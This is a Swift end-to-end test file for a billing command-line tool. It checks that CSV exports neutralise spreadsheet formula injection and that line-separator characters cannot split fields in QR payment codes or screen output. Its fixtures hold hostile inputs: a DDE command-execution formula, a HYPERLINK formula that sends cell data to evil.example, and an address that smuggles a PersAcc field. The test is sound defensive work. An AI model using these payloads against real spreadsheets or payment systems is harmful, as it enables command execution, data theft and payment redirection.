import Foundation
import Testing

/// Issue 35, item 5: a customer's name that a spreadsheet would run, and line separators that
/// a screen or a bank's app would take for a line break.
@Suite struct SpreadsheetAndSeparatorsTests {
    /// Rows of `--format csv|tsv` output as Python's csv module reads them.
    static func parsed(_ text: String, tsv: Bool = false) -> [[String]] {
        let program = "import csv, io, json, sys\nprint(json.dumps(list(csv.reader(io.StringIO(sys.stdin.read(), newline=''), delimiter='\\t' if sys.argv[1] == 'tsv' else ','))))"
        let r = E2E.exec("/usr/bin/env", ["python3", "-c", program, tsv ? "tsv" : "csv"], stdin: Array(text.utf8))
        return (try? JSONSerialization.jsonObject(with: Data(r.stdout.utf8))) as? [[String]] ?? []
    }

    @Test func aCSVCellASpreadsheetWouldRunIsNeutralisedAndAmountsStayNumbers() throws {
        let t = E2E()
        t.demo(accounts: 150)
        let names = ["=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Оплатить\")", "+7 (911) 000-00-00", "-1+1", "@SUM(1)"]
        let ids = t.sql("SELECT id FROM portal_user WHERE status = 'active' ORDER BY id LIMIT \(names.count)").split(separator: "\n").map(String.init)
        try #require(ids.count == names.count)
        for (id, name) in zip(ids, names) {
            #expect(t.run("user", "edit", id, "--name", name).status == 0, "\(name)")
        }
        let csv = t.run("user", "list", "--status", "active", "--limit", "0", "--format", "csv")
        #expect(csv.status == 0, "\(csv)")
        let rows = Self.parsed(csv.stdout)
        let column = try #require(rows.first?.firstIndex(of: "full_name"))
        let idColumn = try #require(rows.first?.firstIndex(of: "id"))
        for (id, name) in zip(ids, names) {
            let row = try #require(rows.first { $0[idColumn] == id })
            #expect(row[column] == "'" + name, "a spreadsheet shows it as text: \(row[column])")
        }
        #expect(rows.dropFirst().allSatisfy { row in !"=+-@\t\r".contains(row[column].first ?? " ") }, "no cell of the column starts a formula")
        #expect(rows.dropFirst().allSatisfy { Int($0[idColumn]) != nil }, "ids stay numbers")

        // TSV and JSON are for scripts: the name exactly as it is
        let tsv = Self.parsed(t.run("user", "list", "--status", "active", "--limit", "0", "--format", "tsv").stdout, tsv: true)
        let tsvColumn = try #require(tsv.first?.firstIndex(of: "full_name"))
        #expect(tsv.contains { $0[tsvColumn] == names[0] } && tsv.contains { $0[tsvColumn] == names[2] })
        let json = t.run("user", "list", "--status", "active", "--limit", "0", "--json").jsonArray
        #expect(json.contains { $0["full_name"] as? String == names[1] })

        // a debt is a negative number we wrote: it stays one
        let debtors = Self.parsed(t.run("account", "list", "--debtors", "--limit", "5", "--format", "csv").stdout)
        let debt = try #require(debtors.first?.firstIndex(of: "debt_kop"))
        #expect(debtors.count > 1 && debtors.dropFirst().allSatisfy { Int($0[debt]).map { $0 != 0 } == true }, "\(debtors)")
        let balance = try #require(debtors.first?.firstIndex(of: "balance_kop"))
        #expect(debtors.dropFirst().contains { ($0[balance]).hasPrefix("-") && Int($0[balance]) != nil }, "\(debtors)")
    }

    @Test func lineAndParagraphSeparatorsAreBlankedInTheQRAndEscapedOnTheScreen() throws {
        let t = E2E()
        t.demo(accounts: 150, date: "2026-11-20")
        let (number, rgk) = BillsE2ETests.debtor(t)
        let id = t.sql("SELECT a.id FROM account a JOIN rgk g ON g.id = a.rgk_id WHERE a.number = '\(number)' AND g.code = '\(rgk)'")
        // what an RGK file or the portal may hold: U+2028, U+2029, NEL, CR LF inside one value (the
        // characters themselves inside the literals, as both engines read them)
        _ = t.sql("""
            UPDATE account SET surname = 'Иванов\r\nПетров', name = 'Иван\u{2029}', patronymic = 'Иванович\u{85}',
                               address = 'г. Вологда, ул. Ленина, д. 1\u{2028}кв. 2\u{2029}PersAcc=1'
            WHERE id = \(id)
            """)
        let file = t.dir + "/bill.pdf"
        let r = t.run("account", "bill", number, "--rgk", rgk, "--output", file)
        #expect(r.status == 0, "\(r)")
        let read = BillsE2ETests.read(file, in: t)
        #expect(read.qr.hasPrefix("ST00012|"), "zbarimg read the code: \(read.qr)")
        #expect(!read.qr.unicodeScalars.contains { [0x0A, 0x0D, 0x85, 0x2028, 0x2029].contains($0.value) }, "\(read.qr.debugDescription)")
        let fields = BillsE2ETests.fields(read.qr)
        #expect(fields["PayerAddress"] == "г. Вологда, ул. Ленина, д. 1 кв. 2 PersAcc=1", "\(fields)")
        #expect(fields["LastName"] == "Иванов  Петров" && fields["FirstName"] == "Иван" && fields["MiddleName"] == "Иванович", "\(fields)")
        #expect(fields["PersAcc"] == number, "the account the bank pays is still the bill's")
        #expect(!read.text.unicodeScalars.contains { [0x85, 0x2028, 0x2029].contains($0.value) }, "the PDF's text holds no separator either")

        // on the screen: one line per field, the breaks shown escaped
        let show = t.run("account", "show", number, "--rgk", rgk)
        #expect(show.status == 0, "\(show)")
        let lines = show.stdout.split(separator: "\n", omittingEmptySubsequences: false)
        let holder = try #require(lines.first { $0.hasPrefix("Holder:") })
        #expect(holder.contains(#"Иванов\r\nПетров Иван\u2029 Иванович\u0085"#), "\(holder)")
        let address = try #require(lines.first { $0.hasPrefix("Address:") })
        #expect(address.hasSuffix(#"д. 1\u2028кв. 2\u2029PersAcc=1"#), "\(address)")
        #expect(!lines.contains { $0.hasPrefix("Петров") || $0.hasPrefix("кв. 2") || $0.trimmingCharacters(in: .whitespaces).hasPrefix("Петров") },
                "no line break from the data: \(show.stdout)")
        #expect(!show.stdout.unicodeScalars.contains { [0x0D, 0x85, 0x2028, 0x2029].contains($0.value) })
    }
}
